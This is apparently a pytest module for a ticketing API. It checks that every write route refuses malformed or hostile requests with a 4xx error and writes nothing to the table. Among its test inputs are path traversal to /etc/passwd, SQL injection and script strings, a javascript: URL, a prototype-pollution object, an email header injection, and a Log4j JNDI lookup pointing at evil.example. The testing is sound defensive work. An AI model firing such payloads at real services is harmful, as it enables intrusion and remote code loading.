"""Bad input on every write route: a clear 4xx in the error envelope, and not one item written.

Each request below is wrong in one way: malformed or non-object JSON, a wrong type, a null where none
is allowed, an unknown field, a string over its limit, control characters or text that is not valid
Unicode, a number out of range, no body, a body that is not JSON, or an id made to look like a path,
a query or a script. Each must be answered with a 4xx in the error envelope (in its errorList on JTL
SCX's route, whose document has that format), and every item of the table must be exactly what it
was. Each request carries an Idempotency-Key, as a retrying integration sends it: a refused request
does not take its key either. One table serves the whole module: no
request here is supposed to change it, and each test compares the whole table before and after."""

from __future__ import annotations

import base64
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from http import HTTPStatus
from typing import Any, Literal
from urllib.parse import quote

import pytest

from tests.support.assertions import assert_error
from tests.support.documents import JTL_EXAMPLE, PAYMENTER_CREATE_EXAMPLE
from tests.support.events import api_event
from tests.support.factories import Seeder
from tests.support.handlers import Api, ApiResponse, invoke
from tests.support.moto_table import moto_table, table_items
from tickets.api.compat import jtl
from tickets.errors import HTTP_STATUS, ErrorCode

TAG = "3f2b8c1e-5d4a-4e6f-9a7b-1c2d3e4f5a6b"
MULTIPART = '--x\r\nContent-Disposition: form-data; name="subject"\r\n\r\nPayment failed\r\n--x--\r\n'
# Ids made to look like a path, an encoded path, SQL, a script, a log4j lookup, and a NUL.
HOSTILE_IDS = {
    "path traversal": "../../etc/passwd",
    "encoded traversal": "%2e%2e%2f",
    "SQL injection": "' OR 1=1 --",
    "script": "<script>alert(1)</script>",
    "JNDI lookup": "${jndi:ldap://evil.example/a}",
    "NUL": "\u0000",
}


@dataclass(frozen=True)
class Route:
    """A write route, the handler behind it, and a valid body that each case breaks in one way."""

    function: str  # functions/<function>/app.py
    event: str  # its base event (tests/support/events.py)
    resource: str
    body: dict[str, Any]
    path_param: str | None = None
    target: str = ""  # an existing id for the path (the ticket's is only known once it is created)
    errors: Literal["envelope", "errorList", "laravel"] = "envelope"  # the route's error format


ROUTES = {
    "create": Route(
        "create_ticket",
        "create_ticket",
        "/v1/tickets",
        {"customerExternalId": "user_42", "subject": "Payment failed"},
    ),
    "reply": Route(
        "reply_ticket", "reply_ticket", "/v1/tickets/{ticketId}", {"message": "Any news?"}, "ticketId"
    ),
    "reply /messages": Route(
        "reply_ticket",
        "reply_ticket",
        "/v1/tickets/{ticketId}/messages",
        {"message": "Any news?", "from": {"role": "CUSTOMER"}},
        "ticketId",
    ),
    "update": Route(
        "update_ticket", "update_ticket", "/v1/tickets/{ticketId}", {"priority": "HIGH"}, "ticketId"
    ),
    "put customer": Route(
        "customers",
        "upsert_customer",
        "/v1/customers/{externalId}",
        {"email": "john@acme.com", "name": "John Doe"},
        "externalId",
        "user_42",
    ),
    "put agent": Route(
        "agents", "put_agent", "/v1/agents/{agentId}", {"name": "Agent N1"}, "agentId", "agent_n1"
    ),
    "patch agent": Route(
        "agents", "patch_agent", "/v1/agents/{agentId}", {"available": False}, "agentId", "agent_n1"
    ),
    "supportdesk create": Route(
        "supportdesk",
        "supportdesk_create_ticket",
        "/compat/supportdesk/api/v1/tickets/api-create",
        {"customerExternalId": "user_42", "subject": "Payment failed"},
    ),
    "paymenter create": Route(
        "paymenter",
        "paymenter_create_ticket",
        "/compat/paymenter/api/v1/admin/tickets",
        PAYMENTER_CREATE_EXAMPLE | {"user_id": "user_42"},
        errors="laravel",
    ),
    "paymenter update": Route(
        "paymenter",
        "paymenter_update_ticket",
        "/compat/paymenter/api/v1/admin/tickets/{ticketId}",
        {"priority": "low"},
        "ticketId",
        errors="laravel",
    ),
    "paymenter message": Route(
        "paymenter",
        "paymenter_add_message",
        "/compat/paymenter/api/v1/admin/ticket-messages",
        {"ticket_id": 1, "message": "Any news?", "user_id": "user_42"},
        errors="laravel",
    ),
    "sellgate reply": Route(
        "sellgate",
        "sellgate_reply_ticket",
        "/compat/sellgate/v1/tickets/{ticketId}",
        {"message": "Your order has been resent."},
        "ticketId",
    ),
    "sellgate update": Route(
        "sellgate",
        "sellgate_update_ticket",
        "/compat/sellgate/v1/tickets/{ticketId}",
        {"status": "closed"},
        "ticketId",
    ),
    "jtl create": Route(
        "jtl", "jtl_create_ticket", "/compat/jtl/v1/channel/ticket", JTL_EXAMPLE, errors="errorList"
    ),
}


@dataclass(frozen=True)
class Bad:
    """One bad request: its raw body (None: no body at all), extra headers, and the id in its path."""

    raw: str | None
    headers: dict[str, str] = field(default_factory=dict)
    target: str | None = None  # None: the route's existing id
    verbatim: bool = False  # the id put in the path as typed, not percent-encoded
    base64: bool = False  # the body as API Gateway passes a binary one


@dataclass(frozen=True)
class Refused:
    """The answer expected: one of these error codes (the status follows from it), naming `field`."""

    codes: tuple[ErrorCode, ...]
    field: str | None = None


def invalid(field_name: str | None = None) -> Refused:
    return Refused((ErrorCode.VALIDATION_ERROR,), field_name)


def changed(route: str, changes: dict[str, Any], ascii_only: bool = True) -> str:
    """The route's valid body with `changes` (a None value sends null); non-ASCII text as \\u escapes
    unless `ascii_only` is False (then as UTF-8, to count bytes as a client sends them)."""
    return json.dumps(ROUTES[route].body | changes, ensure_ascii=ascii_only)


def without(route: str, name: str) -> str:
    return json.dumps({key: value for key, value in ROUTES[route].body.items() if key != name})


def appended(route: str, raw_member: str) -> str:
    """The route's valid body with one more member written as raw JSON text (1e400, NaN, ...)."""
    return json.dumps(ROUTES[route].body)[:-1] + ", " + raw_member + "}"


Case = Any  # a pytest.param(route, Bad, Refused)


def case(route: str, label: str, bad: Bad, refused: Refused) -> Case:
    return pytest.param(route, bad, refused, id=f"{route}: {label}")


def every_route_cases(route: str) -> Iterator[Case]:
    """Bad bodies and headers that no write route may accept."""
    valid = json.dumps(ROUTES[route].body)
    malformed = {
        "trailing comma": valid[:-1] + ",}",
        "unterminated": valid[:-1],
        "single quotes": valid.replace('"', "'"),
        "two objects": valid + valid,
        "trailing garbage": valid + " x",
        "comment": "/* hi */" + valid,
    }
    for label, raw in malformed.items():
        yield case(route, f"malformed JSON ({label})", Bad(raw), invalid("body"))
    for label, raw in {
        "the body in an array": f"[{valid}]",
        "empty array": "[]",
        "string": '"a ticket"',
        "number": "42",
        "null": "null",
        "true": "true",
    }.items():
        yield case(route, f"not an object ({label})", Bad(raw), invalid("body"))
    yield case(route, "no body", Bad(None), invalid("body"))
    yield case(route, "empty body", Bad(""), invalid("body"))
    yield case(route, "blank body", Bad(" \n\t "), invalid("body"))
    for content_type, raw in {
        "text/plain": valid,
        "application/x-www-form-urlencoded": "subject=Payment+failed&priority=HIGH",
        "application/xml": "<ticket><subject>Payment failed</subject></ticket>",
        "multipart/form-data; boundary=x": MULTIPART,
    }.items():
        yield case(
            route,
            f"Content-Type {content_type}",
            Bad(raw, {"Content-Type": content_type}),
            Refused((ErrorCode.UNSUPPORTED_MEDIA_TYPE,), "Content-Type"),
        )
    yield case(
        route,
        "Content-Type in capitals, with an unknown field",
        Bad(changed(route, {"unexpectedField": 1}), {"Content-Type": "APPLICATION/JSON"}),
        invalid(),
    )
    yield case(
        route, "unknown field", Bad(changed(route, {"unexpectedField": 1})), invalid("unexpectedField")
    )
    yield case(
        route, "__proto__", Bad(changed(route, {"__proto__": {"role": "admin"}})), invalid("__proto__")
    )
    yield case(
        route,
        "over 128 KiB",
        Bad(changed(route, {"padding": "x" * (129 * 1024)})),
        Refused((ErrorCode.PAYLOAD_TOO_LARGE,)),
    )
    yield case(route, "NaN", Bad(appended(route, '"unexpectedField": NaN')), invalid())
    yield case(route, "a 5000-digit integer", Bad(appended(route, '"n": ' + "9" * 5000)), invalid())
    yield case(
        route,
        "nested 2000 levels deep",
        Bad(appended(route, '"n": ' + "[" * 2000 + "]" * 2000)),
        invalid(),
    )
    undecodable = valid.encode()[:-1] + b', "note": "\xff\xfe"}'
    yield case(
        route,
        "invalid UTF-8 in a base64 body",
        Bad(base64.b64encode(undecodable).decode(), base64=True),
        invalid(),
    )
    yield case(
        route,
        "invalid UTF-8 passed through as an undecodable byte",
        Bad(undecodable.decode("utf-8", errors="surrogateescape")),
        invalid(),
    )


def text_cases(route: str, name: str, limit: int, single_line: bool = True) -> Iterator[Case]:
    """A text field: over its limit, control characters, text that is not Unicode, the wrong type."""
    yield case(
        route,
        f"{name} over {limit} characters",
        Bad(changed(route, {name: "x" * (limit + 1)})),
        invalid(name),
    )
    for label, text in {
        "NUL": "a\u0000b",
        "ESC": "\u001b[31mred",
        "DEL": "a\u007fb",
        "BEL": "a\u0007",
    }.items():
        yield case(route, f"{name} with {label}", Bad(changed(route, {name: text})), invalid(name))
    if single_line:
        yield case(route, f"{name} with a line break", Bad(changed(route, {name: "a\r\nb"})), invalid(name))
    yield case(route, f"{name} a lone surrogate", Bad(changed(route, {name: "a\ud800"})), invalid(name))
    yield case(route, f"{name} blank", Bad(changed(route, {name: "   "})), invalid(name))
    yield case(route, f"{name} a number", Bad(changed(route, {name: 42})), invalid(name))
    yield case(route, f"{name} an array", Bad(changed(route, {name: ["x"]})), invalid(name))


def null_cases(route: str, *names: str) -> Iterator[Case]:
    for name in names:
        yield case(route, f"{name} null", Bad(changed(route, {name: None})), invalid(name))


def metadata_cases(route: str) -> Iterator[Case]:
    deep: dict[str, Any] = {"leaf": 1}
    for _ in range(5):
        deep = {"a": deep}
    cases = {
        "an array": [1],
        "a string": "x",
        "over 8 KiB": {"a": "x" * 9000},
        "6 levels deep": deep,
        "a lone surrogate value": {"a": "\ud800"},
        "a lone surrogate key": {"\udfff": 1},
        "a lone surrogate in a list": {"a": ["x\udc80"]},
    }
    for label, metadata in cases.items():
        yield case(
            route, f"metadata {label}", Bad(changed(route, {"metadata": metadata})), invalid("metadata")
        )
    yield case(route, "metadata 1e400", Bad(appended(route, '"metadata": {"n": 1e400}')), invalid("metadata"))
    yield case(route, "metadata NaN", Bad(appended(route, '"metadata": {"n": NaN}')), invalid("metadata"))
    deepest = '"metadata": ' + '{"a": ' * 900 + "1" + "}" * 900  # as deep as the JSON parser goes
    yield case(route, "metadata 900 levels deep", Bad(appended(route, deepest)), invalid("metadata"))


def attachment_cases(route: str) -> Iterator[Case]:
    good = {"filename": "receipt.pdf", "contentType": "application/pdf"}
    for label, attachment, name in [
        ("size 10**40", good | {"size": 10**40}, "attachments.0.size"),
        ("size -1", good | {"size": -1}, "attachments.0.size"),
        ("size 1.5", good | {"size": 1.5}, "attachments.0.size"),
        ("url javascript:", good | {"url": "javascript:alert(1)"}, "attachments.0.url"),
        (
            "contentType with a line break",
            good | {"contentType": "text/html\r\nX: y"},
            "attachments.0.contentType",
        ),
        ("filename a path with NUL", good | {"filename": "../../a\u0000.pdf"}, "attachments.0.filename"),
        ("unknown field", good | {"path": "/etc/passwd"}, "attachments.0.path"),
    ]:
        yield case(
            route, f"attachment {label}", Bad(changed(route, {"attachments": [attachment]})), invalid(name)
        )
    eleven = [good] * 11
    yield case(route, "11 attachments", Bad(changed(route, {"attachments": eleven})), invalid("attachments"))
    yield case(
        route, "attachments an object", Bad(changed(route, {"attachments": good})), invalid("attachments")
    )


def create_cases() -> Iterator[Case]:
    route = "create"
    yield from text_cases(route, "subject", 1024)
    yield from text_cases(route, "customerExternalId", 256)
    yield from text_cases(route, "category", 128)
    yield from null_cases(route, "subject", "customerExternalId", "priority", "tagIds", "replyRequested")
    yield from null_cases(route, "attachments")
    yield from metadata_cases(route)
    yield from attachment_cases(route)
    yield case(route, "no subject", Bad(without(route, "subject")), invalid("subject"))
    yield case(
        route,
        "no customerExternalId",
        Bad(without(route, "customerExternalId")),
        invalid("customerExternalId"),
    )
    for name, value in {
        "priority": "HIGHEST",
        "topic": "OTHER",
        "replyRequested": "true",
        "tagIds": TAG,
        "reference": "ORDERID-19820701",
        "order": ["12345"],
    }.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    yield case(
        route,
        "customer_external_id (snake case)",
        Bad(changed(route, {"customer_external_id": "user_42"})),
        invalid("customer_external_id"),
    )
    yield case(route, "a channel of its own", Bad(changed(route, {"channel": "EMAIL"})), invalid("channel"))
    yield case(route, "a status that is not one", Bad(changed(route, {"status": "DONE"})), invalid("status"))
    yield case(
        route,
        "description over 64 KiB",
        Bad(changed(route, {"description": "é" * 32769}, ascii_only=False)),
        invalid("description"),
    )
    yield case(
        route, "description with NUL", Bad(changed(route, {"description": "a\u0000"})), invalid("description")
    )
    yield case(
        route, "externalId over 256", Bad(changed(route, {"externalId": "e" * 257})), invalid("externalId")
    )
    yield case(
        route,
        "11 tags",
        Bad(changed(route, {"tagIds": [str(uuid.UUID(int=n)) for n in range(11)]})),
        invalid("tagIds"),
    )
    yield case(route, "a tag twice", Bad(changed(route, {"tagIds": [TAG, TAG.upper()]})), invalid("tagIds"))
    yield case(route, "a script as tag", Bad(changed(route, {"tagIds": ["<script>"]})), invalid("tagIds"))
    yield case(
        route,
        "reference type over 64",
        Bad(changed(route, {"reference": {"type": "T" * 65, "id": "1"}})),
        invalid("reference.type"),
    )
    amounts = {"1e400": "1e400", "10**30": str(10**30), "-1": "-1", "a string": '"12.50"', "true": "true"}
    for label, raw in amounts.items():
        yield case(
            route,
            f"order amount {label}",
            Bad(appended(route, f'"order": {{"amount": {raw}}}')),
            invalid("order.amount"),
        )
    yield case(
        route,
        "order currency eur",
        Bad(changed(route, {"order": {"currency": "eur"}})),
        invalid("order.currency"),
    )
    for label, hostile in HOSTILE_IDS.items():
        refused = (
            invalid("customerExternalId") if label == "NUL" else Refused((ErrorCode.CUSTOMER_NOT_FOUND,))
        )
        yield case(
            route,
            f"customerExternalId {label}",
            Bad(changed(route, {"customerExternalId": hostile})),
            refused,
        )


def supportdesk_cases() -> Iterator[Case]:
    """SupportDesk's create takes the native rules for its document's fields, and no other field."""
    route = "supportdesk create"
    yield from text_cases(route, "subject", 1024)
    yield from text_cases(route, "customerExternalId", 256)
    yield from text_cases(route, "category", 128)
    yield from null_cases(route, "subject", "customerExternalId", "priority", "tagIds")
    yield from metadata_cases(route)
    yield case(route, "no subject", Bad(without(route, "subject")), invalid("subject"))
    for native_only in ("externalId", "order", "topic", "attachments", "replyRequested"):
        value: Any = {"orderId": "1"} if native_only == "order" else "x"
        yield case(
            route,
            f"native field {native_only}",
            Bad(changed(route, {native_only: value})),
            invalid(native_only),
        )
    yield case(
        route,
        "an unknown customer",
        Bad(changed(route, {"customerExternalId": "user_nobody"})),
        Refused((ErrorCode.CUSTOMER_NOT_FOUND,), "customerExternalId"),
    )


def paymenter_cases() -> Iterator[Case]:
    """Paymenter's create, update and message: its fields, its words, its 255-character subject."""
    route = "paymenter create"
    yield from text_cases(route, "subject", 255)
    yield from text_cases(route, "department", 128)
    yield from null_cases(route, "subject", "user_id", "priority")
    yield case(route, "no subject", Bad(without(route, "subject")), invalid("subject"))
    yield case(route, "no user_id", Bad(without(route, "user_id")), invalid("user_id"))
    for name, value in {"status": "OPEN", "priority": "HIGH", "user_id": True, "assigned_to": -5}.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    for native_only in ("customerExternalId", "description", "tagIds"):
        yield case(
            route,
            f"native field {native_only}",
            Bad(changed(route, {native_only: "x"})),
            invalid(native_only),
        )
    yield case(route, "an unknown user", Bad(changed(route, {"user_id": 404})), invalid("user_id"))
    yield case(route, "unknown staff", Bad(changed(route, {"assigned_to": 404})), invalid("assigned_to"))
    route = "paymenter update"
    yield from text_cases(route, "subject", 255)
    yield from null_cases(route, "subject", "status", "priority")
    for name in ("user_id", "service_id", "id", "created_at"):
        yield case(route, f"{name} (not writable)", Bad(changed(route, {name: 1})), invalid(name))
    yield case(route, "unknown staff", Bad(changed(route, {"assigned_to": "nobody"})), invalid("assigned_to"))
    route = "paymenter message"
    yield from text_cases(route, "message", 64 * 1024, single_line=False)
    yield from null_cases(route, "ticket_id", "message", "user_id")
    for name in ("ticket_id", "message", "user_id"):
        yield case(route, f"no {name}", Bad(without(route, name)), invalid(name))
    yield case(
        route, "neither user nor staff", Bad(changed(route, {"user_id": "nobody"})), invalid("user_id")
    )
    yield case(
        route,
        "no such ticket",
        Bad(changed(route, {"ticket_id": 404})),
        Refused((ErrorCode.TICKET_NOT_FOUND,)),
    )


def sellgate_cases() -> Iterator[Case]:
    """Sellgate's reply takes a message only, its update a status word only."""
    route = "sellgate reply"
    yield from text_cases(route, "message", 64 * 1024, single_line=False)
    yield from null_cases(route, "message")
    yield case(route, "no message", Bad(without(route, "message")), invalid("message"))
    for native_only in ("from", "internal", "attachments"):
        yield case(
            route,
            f"native field {native_only}",
            Bad(changed(route, {native_only: "x"})),
            invalid(native_only),
        )
    route = "sellgate update"
    yield from null_cases(route, "status")
    yield case(route, "empty object", Bad("{}"), invalid("status"))
    for value in ("OPEN", "CLOSED", "resolved", "", 1, ["closed"]):
        yield case(route, f"status {value!r}", Bad(changed(route, {"status": value})), invalid("status"))
    for native_only in ("priority", "subject", "assignedAgentId"):
        yield case(
            route,
            f"native field {native_only}",
            Bad(changed(route, {native_only: "x"})),
            invalid(native_only),
        )


def jtl_cases() -> Iterator[Case]:
    """JTL SCX's create: its document's rules, in its field names, and no other field."""
    route = "jtl create"
    yield from text_cases(route, "subject", 1024)
    yield from text_cases(route, "message", 1024, single_line=False)
    yield from text_cases(route, "ticketId", 256)
    yield from null_cases(route, "sellerId", "ticketId", "topic", "createdAt", "from", "subject", "message")
    yield from null_cases(route, "replyRequested", "attachment")
    for name in ("sellerId", "ticketId", "topic", "createdAt", "from", "subject", "message"):
        yield case(route, f"no {name}", Bad(without(route, name)), invalid(name))
    for label, value in {
        "a hyphen": "47-11",
        "over 50": "s" * 51,
        "empty": "",
        "not ASCII": "Müller",
        "a number": 4711,
        "a NUL": "47\u000011",
    }.items():
        yield case(route, f"sellerId {label}", Bad(changed(route, {"sellerId": value})), invalid("sellerId"))
    for name, value in {
        "topic": "question",
        "createdAt": "yesterday",
        "replyRequested": "true",
        "reference": "ORDERID-19820701",
        "attachment": {"filename": "a.png", "contentType": "image/png"},
    }.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    yield case(
        route, "createdAt a number", Bad(changed(route, {"createdAt": 1699335116})), invalid("createdAt")
    )
    for label, author, name in [
        ("role SELLER", {"role": "SELLER", "name": "Dave"}, "from.role"),
        ("no name", {"role": "BUYER"}, "from.name"),
        ("name over 64", {"role": "BUYER", "name": "n" * 65}, "from.name"),
        ("name with a line break", {"role": "BUYER", "name": "Da\nve"}, "from.name"),
        ("unknown field", {"role": "BUYER", "name": "Dave", "email": "dave@x.io"}, "from.email"),
    ]:
        yield case(route, f"from {label}", Bad(changed(route, {"from": author})), invalid(name))
    good = {"filename": "RedDot.png", "contentType": "image/png"}
    yield case(
        route, "11 attachments", Bad(changed(route, {"attachment": [good] * 11})), invalid("attachment")
    )
    yield case(
        route,
        "attachment with an unknown field",
        Bad(changed(route, {"attachment": [good | {"path": "/etc/passwd"}]})),
        invalid("attachment[0].path"),
    )
    for native_only in ("externalId", "customerExternalId", "attachments", "description"):
        yield case(
            route,
            f"native field {native_only}",
            Bad(changed(route, {native_only: "x"})),
            invalid(native_only),
        )
    yield case(
        route,
        "a seller the tenant does not answer for",
        Bad(changed(route, {"sellerId": "9999"})),
        Refused((ErrorCode.SELLER_NOT_SERVED,), "sellerId"),
    )


def reply_cases(route: str) -> Iterator[Case]:
    yield from text_cases(route, "message", 64 * 1024, single_line=False)
    yield from null_cases(route, "message", "internal", "from", "attachments")
    yield from attachment_cases(route)
    yield case(route, "no message", Bad(without(route, "message")), invalid("message"))
    yield case(
        route,
        "message over 64 KiB of UTF-8",
        Bad(changed(route, {"message": "é" * 32769}, ascii_only=False)),
        invalid("message"),
    )
    for name, value in {"internal": "true", "from": "AGENT"}.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    for label, author, name in [
        ("role ADMIN", {"role": "ADMIN"}, "from.role"),
        ("role null", {"role": None}, "from.role"),
        ("name over 256", {"name": "n" * 257}, "from.name"),
        ("name with a line break", {"name": "John\nDoe"}, "from.name"),
        ("id over 128", {"id": "i" * 129}, "from.id"),
        ("unknown field", {"email": "john@acme.com"}, "from.email"),
    ]:
        yield case(route, f"from {label}", Bad(changed(route, {"from": author})), invalid(name))
    customer_note = {"internal": True, "from": {"role": "CUSTOMER"}}
    yield case(
        route, "an internal note from the customer", Bad(changed(route, customer_note)), invalid("internal")
    )
    yield case(route, "a ticket field", Bad(changed(route, {"status": "CLOSED"})), invalid("status"))


def update_cases() -> Iterator[Case]:
    route = "update"
    yield from text_cases(route, "subject", 1024)
    yield from text_cases(route, "department", 128)
    yield from null_cases(route, "status", "priority", "subject", "tagIds")
    yield from metadata_cases(route)
    yield case(route, "empty object", Bad("{}"), invalid("body"))
    for name, value in {
        "status": "DONE",
        "priority": ["HIGH"],
        "topic": 1,
        "tagIds": TAG,
        "assignedAgentId": 42,
    }.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    for name in ("version", "ticketNumber", "createdAt", "customer", "assigned_agent_id", "messageCount"):
        yield case(route, f"{name} (not writable)", Bad(changed(route, {name: "x"})), invalid(name))
    for label, hostile in HOSTILE_IDS.items():
        yield case(
            route,
            f"assignedAgentId {label}",
            Bad(changed(route, {"assignedAgentId": hostile})),
            invalid("assignedAgentId"),
        )
    yield case(
        route,
        "assignedAgentId of nobody",
        Bad(changed(route, {"assignedAgentId": "nobody"})),
        Refused((ErrorCode.AGENT_NOT_FOUND,), "assignedAgentId"),
    )
    yield case(
        route, "If-Match not an ETag", Bad(changed(route, {}), {"If-Match": "yesterday"}), invalid("If-Match")
    )


def customer_cases() -> Iterator[Case]:
    route = "put customer"
    yield from text_cases(route, "name", 256)
    yield from metadata_cases(route)
    for label, email in {
        "not an address": "john",
        "two @": "john@@acme.com",
        "a space": "john doe@acme.com",
        "NUL": "john\u0000@acme.com",
        "BEL": "john@acme.com\u0007",
        "a line break": "john@acme.com\r\nBcc: all@acme.com",
        "local part over 64": "j" * 65 + "@acme.com",
        "a number": 42,
    }.items():
        yield case(route, f"email {label}", Bad(changed(route, {"email": email})), invalid("email"))
    for name in ("externalId", "id", "createdAt"):
        yield case(route, f"{name} (not writable)", Bad(changed(route, {name: "x"})), invalid(name))


def agent_cases(route: str) -> Iterator[Case]:
    yield from text_cases(route, "name", 128)
    yield from null_cases(route, "name", "level", "available", "maxOpenTickets")
    for label, raw in {
        "1001": "1001",
        "10**30": str(10**30),
        "2**63": str(2**63),
        "1e400": "1e400",
        "-1": "-1",
        "1.5": "1.5",
        "'5'": '"5"',
        "true": "true",
    }.items():
        yield case(
            route,
            f"maxOpenTickets {label}",
            Bad(appended(route, f'"maxOpenTickets": {raw}')),
            invalid("maxOpenTickets"),
        )
    for name, value in {"level": "N4", "available": "true", "email": "agent\u0000@acme.com"}.items():
        yield case(route, f"{name} {value!r}", Bad(changed(route, {name: value})), invalid(name))
    yield case(route, "available 0", Bad(changed(route, {"available": 0})), invalid("available"))
    for name in ("openTickets", "lastAssignedAt", "id", "max_open_tickets"):
        yield case(route, f"{name} (not writable)", Bad(changed(route, {name: 1})), invalid(name))


def typed_in_the_path(route: str, label: str, hostile: str, routed: Refused) -> Case:
    """A hostile id put in the path as typed: a "/" or a NUL leaves no route to match (404
    ROUTE_NOT_FOUND); otherwise the route gets it and answers `routed`."""
    bad = Bad(json.dumps(ROUTES[route].body), target=hostile, verbatim=True)
    param = ROUTES[route].path_param
    if "/" in hostile or "\u0000" in hostile:
        return case(
            route,
            f"{param} {label}, as typed",
            bad,
            Refused((ErrorCode.ROUTE_NOT_FOUND,)),
        )
    return case(route, f"{param} {label}, as typed", bad, routed)


def path_cases() -> Iterator[Case]:
    """Hostile ids in the path, percent-encoded as a client library sends them, and as typed."""
    for route in (
        "reply",
        "reply /messages",
        "update",
        "sellgate reply",
        "sellgate update",
        "paymenter update",
    ):
        body = json.dumps(ROUTES[route].body)
        for label, hostile in HOSTILE_IDS.items():
            not_found = Refused((ErrorCode.TICKET_NOT_FOUND,))
            yield case(route, f"ticketId {label}", Bad(body, target=hostile), not_found)
            yield typed_in_the_path(route, label, hostile, not_found)
        yield case(route, "ticketId over 64", Bad(body, target="1" * 65), invalid("ticketId"))
    for route in ("put agent", "patch agent"):
        body = json.dumps(ROUTES[route].body)
        for label, hostile in HOSTILE_IDS.items():
            yield case(route, f"agentId {label}", Bad(body, target=hostile), invalid("agentId"))
            yield typed_in_the_path(route, label, hostile, invalid("agentId"))
        yield case(route, "agentId over 128", Bad(body, target="a" * 129), invalid("agentId"))
        yield case(route, "agentId invalid UTF-8", Bad(body, target="%FF", verbatim=True), invalid("agentId"))
    route = "put customer"
    body = json.dumps(ROUTES[route].body)
    for label, bad_id in {
        "NUL": "\u0000",
        "a line break": "user\n42",
        "ESC": "\u001b[2J",
        "over 256": "u" * 257,
    }.items():
        yield case(route, f"externalId {label}", Bad(body, target=bad_id), invalid("externalId"))
    for label in ("path traversal", "script", "JNDI lookup", "NUL"):
        yield typed_in_the_path(route, label, HOSTILE_IDS[label], invalid("externalId"))
    yield case(
        route,
        "externalId invalid UTF-8",
        Bad(body, target="%FF", verbatim=True),
        invalid("externalId"),
    )
    yield case(
        route,
        "externalId a lone surrogate",
        Bad(body, target="%ED%A0%80", verbatim=True),
        invalid("externalId"),
    )


CASES = [
    *(item for route in ROUTES for item in every_route_cases(route)),
    *create_cases(),
    *reply_cases("reply"),
    *reply_cases("reply /messages"),
    *update_cases(),
    *customer_cases(),
    *agent_cases("put agent"),
    *agent_cases("patch agent"),
    *supportdesk_cases(),
    *sellgate_cases(),
    *paymenter_cases(),
    *jtl_cases(),
    *path_cases(),
]


@pytest.fixture(scope="module")
def ticket_id() -> Iterator[str]:
    """One table for the module: tenant acme with customer user_42, agent agent_n1 and one ticket."""
    with moto_table() as table:
        seeder = Seeder.over(table)
        seeder.tenant()
        seeder.tenants.set_channel_sellers("acme", ["4711"])  # JTL SCX's example seller
        seeder.customer()
        seeder.agent()
        created = Api("acme").create({"customerExternalId": "user_42", "subject": "Payment failed"})
        assert created.status == 201, created.json
        yield created.data["id"]


def send(route: Route, bad: Bad, ticket_id: str) -> ApiResponse:
    """The request as API Gateway hands it to the route's function, from acme's admin key."""
    headers = {"Idempotency-Key": str(uuid.uuid4())} | bad.headers
    event = api_event(route.event, raw_body=bad.raw, resource=route.resource, headers=headers)
    if bad.raw is None:
        event["body"] = None
        event["headers"].pop("Content-Type", None)
        event["multiValueHeaders"].pop("Content-Type", None)
    event["isBase64Encoded"] = bad.base64
    if route.path_param is not None:
        target = bad.target if bad.target is not None else (route.target or ticket_id)
        segment = target if bad.verbatim else quote(target, safe="")
        path = route.resource.replace(f"{{{route.path_param}}}", segment)
        event["path"] = path
        event["requestContext"]["path"] = f"/dev{path}"
        event["pathParameters"] = {route.path_param: segment}
    return invoke(route.function, event)


@pytest.mark.parametrize(("route", "bad", "refused"), CASES)
def test_bad_input_is_a_clear_4xx_in_the_error_envelope_and_writes_nothing(
    ticket_id: str, route: str, bad: Bad, refused: Refused
) -> None:
    # Given the table as it is
    before = table_items()

    # When the bad request is sent
    response = send(ROUTES[route], bad, ticket_id)

    # Then it is refused with one of the expected codes, in the route's error format, naming the field
    if ROUTES[route].errors == "errorList":
        assert_error_list(response, refused)
    elif ROUTES[route].errors == "laravel":
        assert_laravel_error(response, refused)
    else:
        code = response.json.get("error", {}).get("code")
        assert code in refused.codes, (response.status, response.json)
        fields = [refused.field] if refused.field else []
        assert_error(response, HTTP_STATUS[ErrorCode(code)], code, *fields)
    # And not one item of the table changed (no ticket, message, customer, agent, list entry, key)
    assert table_items() == before


def assert_laravel_error(response: ApiResponse, refused: Refused) -> None:
    """Laravel's errors (Paymenter): invalid input 422 {message, errors} naming the field (400
    {message} for a body that is not JSON); any other error {message} with the code's status."""
    body = response.json
    assert isinstance(body.get("message"), str) and body["message"], (response.status, body)
    if refused.codes != (ErrorCode.VALIDATION_ERROR,):
        assert response.status in {HTTP_STATUS[code] for code in refused.codes}, (response.status, body)
        assert set(body) == {"message"}, body
        return
    if response.status == HTTPStatus.BAD_REQUEST:
        assert refused.field in (None, "body") and set(body) == {"message"}, body
        return
    assert response.status == HTTPStatus.UNPROCESSABLE_ENTITY, (response.status, body)
    assert set(body) == {"message", "errors"}, body
    if refused.field:
        named = [
            name for name in body["errors"] if name == refused.field or name.startswith(f"{refused.field}.")
        ]
        assert named, body


def assert_error_list(response: ApiResponse, refused: Refused) -> None:
    """JTL SCX's errorList: the status of the code expected, entries of the document's four fields;
    invalid input an entry per problem (VAL1xx), its hint naming the field; any other error one entry,
    the dialect's code for it."""
    assert set(response.json) == {"errorList"}, (response.status, response.json)
    entries = response.json["errorList"]
    assert entries and all(set(entry) == {"code", "message", "severity", "hint"} for entry in entries)
    statuses = {HTTP_STATUS[code] for code in refused.codes}
    assert response.status in statuses, (response.status, response.json)
    if refused.codes != (ErrorCode.VALIDATION_ERROR,):
        assert [entry["code"] for entry in entries] in [[jtl.CODES[code]] for code in refused.codes], entries
        return
    assert all(entry["code"].startswith("VAL1") for entry in entries), entries
    if refused.field == "body":
        assert any(entry["code"] == "VAL105" for entry in entries), entries
    elif refused.field:
        named = (f"`{refused.field}`", f"`{refused.field}[", f"`{refused.field}.")
        assert any(any(name in entry["hint"] for name in named) for entry in entries), entries


@pytest.mark.parametrize("route", list(ROUTES))
def test_the_valid_body_each_case_breaks_is_accepted_and_writes(ticket_id: str, route: str) -> None:
    # Given the table as it is, and the valid request every bad one above starts from
    before = table_items()

    # When it is sent as it is
    response = send(ROUTES[route], Bad(json.dumps(ROUTES[route].body)), ticket_id)

    # Then it succeeds and writes: the refusals above are the bad input's doing, and the comparison
    # of the table sees writes
    assert response.status in (200, 201), response.json
